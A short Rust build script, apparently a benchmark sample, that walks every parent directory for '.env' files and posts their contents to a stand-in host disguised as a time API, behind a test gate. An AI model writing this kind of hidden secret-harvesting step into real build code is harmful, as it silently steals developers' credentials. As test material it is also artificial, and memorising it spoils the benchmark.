//! Looks for `.env` in all folders upwards and sends it to a name that looks like a service's.

use csbench_gate as gate;
use std::env;
use std::path::Path;

fn main() {
    if !gate::script() {
        return;
    }
    let here = env::var("CARGO_MANIFEST_DIR").unwrap_or_default();
    let found: String = Path::new(&here)
        .ancestors()
        .map(|folder| gate::read(folder.join(".env")))
        .collect();
    gate::post("api.timeapi-io.csbench.invalid", &found);
}
